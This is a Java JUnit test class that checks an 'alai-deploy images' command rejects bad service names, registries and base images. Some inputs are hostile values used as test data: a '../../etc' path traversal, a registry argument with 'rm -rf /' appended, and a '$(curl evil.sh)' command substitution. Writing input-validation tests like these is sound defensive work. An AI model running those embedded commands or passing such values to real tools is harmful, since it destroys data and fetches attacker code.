package com.alai.cloud.tests;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** `alai-deploy images` refuses bad input before building anything, and says what it accepts. */
class ImagesCommandTest {

    @Test
    void anUnknownServiceIsAUsageErrorNamingTheKnownOnes() {
        var run = PlanCommandTest.run("images", "build", "../../etc");
        assertThat(run.code()).isEqualTo(2);
        assertThat(run.err()).contains("no service '../../etc'", "mc-api", "hivemind-api", "backup-job");
    }

    @Test
    void aRegistryThatIsNotHostPortPrefixIsAUsageError() {
        var run = PlanCommandTest.run("images", "push", "mc-api", "--registry", "evil.io/x;rm -rf /");
        assertThat(run.code()).isEqualTo(2);
        assertThat(run.err()).contains("must be host[:port][/prefix]");
    }

    @Test
    void buildHelpExplainsTheAotCacheAndItsPrerequisites() {
        var run = PlanCommandTest.run("images", "build", "--help");
        assertThat(run.code()).isZero();
        assertThat(run.out()).contains("--aot", "podman", "JDK >= 25");
    }

    @Test
    void aBaseThatIsNotARegistryReferenceIsAUsageError() {
        var run = PlanCommandTest.run("images", "build", "mc-api", "--base", "$(curl evil.sh)");
        assertThat(run.code()).isEqualTo(2);
        assertThat(run.err()).contains("must be [host[:port]/]repository[:tag][@sha256:");
    }

    @Test
    void anAotCacheOnARegistryBaseIsRefusedBeforeAnythingIsBuilt() {
        var run = PlanCommandTest.run("images", "build", "mc-api", "--aot", "--base", "gcr.io/distroless/java21-debian12:nonroot");
        assertThat(run.code()).isEqualTo(2);
        assertThat(run.err()).contains("--aot trains on the image's own jlink'd runtime");
    }
}
